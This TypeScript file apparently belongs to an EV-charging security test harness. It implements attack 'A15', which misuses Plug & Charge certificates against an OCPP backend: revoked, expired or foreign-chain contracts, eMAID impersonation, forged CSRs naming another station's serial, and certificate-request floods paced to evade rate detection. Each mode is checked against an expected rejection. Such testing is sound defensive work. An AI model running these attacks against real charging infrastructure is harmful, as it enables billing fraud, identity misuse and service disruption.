import { generateKeyPairSync, type KeyObject } from 'node:crypto';
import type { ReactionSpec } from '../../detection/index.js';
import { encodeExiRequest } from '../../ocpp/pki/exi.js';
import { parseOcspResponse } from '../../ocpp/pki/ocsp.js';
import { buildCsr, toPem } from '../../ocpp/pki/x509.js';
import type { Payload } from '../../ocpp/session.js';
import type { StationGroupSpec } from '../../scenario/spec.js';
import type { Station } from '../../station/station.js';
import { contractFromExi, type Contract } from '../../station/usecases/pnc-contracts.js';
import { pncStation } from '../../station/usecases/pnc-station.js';
import type { AttackEnv } from '../env.js';
import type { AttackImpl } from '../types.js';

type Mode = 'revoked-contract' | 'expired-contract' | 'wrong-chain' | 'emaid-mismatch' | 'csr-cn-mismatch' | 'ev-certificate-flood';

// Expected reactions (ATTACKS.md A15; the idTokenInfo status of an expired contract per FLOWS.md §4.1).
const EXPECT: Readonly<Record<Mode, readonly ReactionSpec[]>> = {
  'revoked-contract': [{ kind: 'certificateStatus', value: 'CertificateRevoked' }, { kind: 'status', value: 'Invalid' }],
  'expired-contract': [{ kind: 'certificateStatus', value: 'CertificateExpired' }, { kind: 'status', value: 'Expired' }],
  'wrong-chain': [{ kind: 'certificateStatus', value: 'CertChainError' }, { kind: 'status', value: 'Invalid' }],
  'emaid-mismatch': [{ kind: 'certificateStatus', value: 'CertChainError' }, { kind: 'status', value: 'Invalid' }],
  'csr-cn-mismatch': [{ kind: 'status', value: 'Rejected' }, { kind: 'reasonCode', value: 'InvalidCSR' }],
  'ev-certificate-flood': [{ kind: 'status', value: 'Failed' }],
};

const ISO2_SCHEMA = 'urn:iso:15118:2:2013:MsgDef';
/** Contracts the attacker installs at most while looking for a revoked / expired one. */
const MAX_HARVEST = 100;
/** Pause between harvesting requests: below the per-station rate baseline of ordinary certificate traffic. */
const HARVEST_GAP_MS = 600;
const B36 = '0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ';

/** An eMAID of the attacker's making: `DE` + `ATK` + `C` + 9 base-36 characters (15, as FLOWS.md's examples). */
function attackerEmaid(env: AttackEnv): string {
  let s = 'DEATKC';
  for (let i = 0; i < 9; i++) s += B36[env.rng.int(0, 35)];
  return s;
}

const hex = (env: AttackEnv, bytes: number): string => {
  let s = '';
  for (let i = 0; i < bytes; i++) s += env.rng.int(0, 255).toString(16).padStart(2, '0');
  return s;
};

/**
 * Installs a contract for a fresh eMAID through the target (Get15118EVCertificate, as an EV's first visit does)
 * and keeps it as the station would. Null when the CSMS did not issue one.
 */
async function installContract(st: Station, emaid: string): Promise<Contract | null> {
  const out = await st.call('Get15118EVCertificate', { iso15118SchemaVersion: ISO2_SCHEMA, action: 'Install', exiRequest: encodeExiRequest(emaid, 2) });
  if (!out.ok || out.payload.status !== 'Accepted') return null;
  return contractFromExi(emaid, out.payload.exiResponse, pncStation(st).roots.get('MORootCertificate') ?? [], true);
}

/** The OCSP status of a contract certificate (GetCertificateStatus), or null when the CSMS gave none. */
async function ocspStatus(st: Station, c: Contract): Promise<string | null> {
  const out = await st.call('GetCertificateStatus', { ocspRequestData: { ...c.hashData[0]! } });
  if (!out.ok || out.payload.status !== 'Accepted' || typeof out.payload.ocspResult !== 'string') return null;
  try { return parseOcspResponse(Buffer.from(out.payload.ocspResult, 'base64')).certStatus; } catch { return null; }
}

/**
 * The contract the attack presents: a revoked one (found by OCSP), an expired one (its own validity dates), or
 * (emaid-mismatch) any current one. Contracts are installed for made-up eMAIDs, paced, until one fits.
 */
async function harvest(env: AttackEnv, st: Station, mode: Mode): Promise<Contract | null> {
  for (let i = 0; i < MAX_HARVEST && env.active; i++) {
    if (i > 0) await env.sleep(HARVEST_GAP_MS);
    if (!st.online) continue;
    const c = await installContract(st, attackerEmaid(env));
    env.count('a15_contracts_harvested');
    if (c === null || c.pem === undefined) continue;
    const expired = c.notAfterMs < env.nowMs();
    if (mode === 'expired-contract' && expired) return c;
    if (mode === 'emaid-mismatch' && !expired) return c;
    if (mode === 'revoked-contract' && !expired) {
      await env.sleep(HARVEST_GAP_MS);
      if (st.online && (await ocspStatus(st, c)) === 'revoked') return c;
    }
  }
  return null;
}

/** Authorize with contract data: the hash data of `c` (or its PEM chain) for the eMAID `emaid`. */
async function authorize(env: AttackEnv, st: Station, mode: Mode, emaid: string, data: Payload): Promise<void> {
  await env.call(st, 'Authorize', { idToken: { idToken: emaid, type: 'eMAID' }, ...data }, { expect: EXPECT[mode], frame: `Authorize(${mode})` });
}

/** A key pair and a CSR naming another station's serial number as CN. */
function forgedCsr(env: AttackEnv, st: Station): string {
  const { publicKey, privateKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' }) as { publicKey: KeyObject; privateKey: KeyObject };
  const org = st.dm.value('SecurityCtrlr', 'OrganizationName') || 'chargestorm';
  const cn = `${st.identity.serialNumber.slice(0, 12)}-${hex(env, 4)}`;
  return toPem(buildCsr([['CN', cn], ['O', org]], publicKey, privateKey), 'CERTIFICATE REQUEST');
}

/**
 * A15 Plug & Charge / certificate misuse on a Plug & Charge station, at `rate` frames/s. revoked-contract /
 * expired-contract: Authorize with the hash data of a contract the PKI revoked / that expired (installed through
 * the station beforehand like any EV's, the revoked one found by OCSP); wrong-chain: hash data from an unknown
 * issuer; emaid-mismatch: a victim's eMAID with the attacker's own contract chain (PEM); csr-cn-mismatch:
 * SignCertificate whose CSR names another CN than the station's serial number; ev-certificate-flood:
 * Get15118EVCertificate with garbage exiRequest. Each frame's answer is checked against ATTACKS.md.
 */
export const A15: AttackImpl = {
  type: 'A15',
  title: 'Plug & Charge / certificate misuse',
  eligible: (g: StationGroupSpec) => g.behaviour === 'plug-and-charge',
  problem(spec, entry) {
    if (spec.target !== undefined) return undefined;
    if (entry.params.mode === 'revoked-contract' && spec.csms.pki.revokedContracts === 0) {
      return 'mode revoked-contract needs revoked contracts: set csms.pki.revokedContracts above 0 (the embedded CSMS revokes none otherwise)';
    }
    if (entry.params.mode === 'expired-contract' && spec.csms.pki.expiredContracts === 0) {
      return 'mode expired-contract needs expired contracts: set csms.pki.expiredContracts above 0 (the embedded CSMS issues none otherwise)';
    }
    return undefined;
  },
  async run(env) {
    const st = env.stations[0];
    if (!st) return;
    const mode = env.params.mode as Mode;
    switch (mode) {
      case 'revoked-contract':
      case 'expired-contract': {
        const c = await harvest(env, st, mode);
        if (c === null) { env.count('a15_no_contract'); return; }
        env.scope.token(c.emaid);
        await env.every(env.rate, async () => {
          if (st.online) await authorize(env, st, mode, c.emaid, { iso15118CertificateHashData: c.hashData.map((h) => ({ ...h })) });
        });
        return;
      }
      case 'emaid-mismatch': {
        const c = await harvest(env, st, mode);
        if (c === null) { env.count('a15_no_contract'); return; }
        const victim = attackerEmaid(env).replace('ATK', 'VIC');
        env.scope.token(victim);
        await env.every(env.rate, async () => {
          if (st.online) await authorize(env, st, mode, victim, { certificate: c.pem });
        });
        return;
      }
      case 'wrong-chain': {
        const emaid = attackerEmaid(env);
        env.scope.token(emaid);
        // A contract of an issuer this CSMS does not know (a foreign or self-made MO CA).
        const hashData = [{
          hashAlgorithm: 'SHA256', issuerNameHash: hex(env, 32), issuerKeyHash: hex(env, 32), serialNumber: hex(env, 12).replace(/^0+/, '') || '1',
          responderURL: 'http://ocsp.mo.invalid/',
        }];
        await env.every(env.rate, async () => {
          if (st.online) await authorize(env, st, mode, emaid, { iso15118CertificateHashData: hashData });
        });
        return;
      }
      case 'csr-cn-mismatch': {
        const csr = forgedCsr(env, st);
        await env.every(env.rate, async () => {
          if (st.online) {
            await env.call(st, 'SignCertificate', { csr, certificateType: 'ChargingStationCertificate' }, { expect: EXPECT[mode], frame: 'SignCertificate(CN ≠ serial)' });
          }
        });
        return;
      }
      case 'ev-certificate-flood':
        await env.every(env.rate, async () => {
          if (!st.online) return;
          const garbage = Buffer.from(hex(env, env.rng.int(32, 256)), 'hex').toString('base64');
          await env.call(st, 'Get15118EVCertificate', { iso15118SchemaVersion: ISO2_SCHEMA, action: 'Install', exiRequest: garbage },
            { expect: EXPECT[mode], frame: 'Get15118EVCertificate(garbage exiRequest)' });
        });
        return;
    }
  },
};
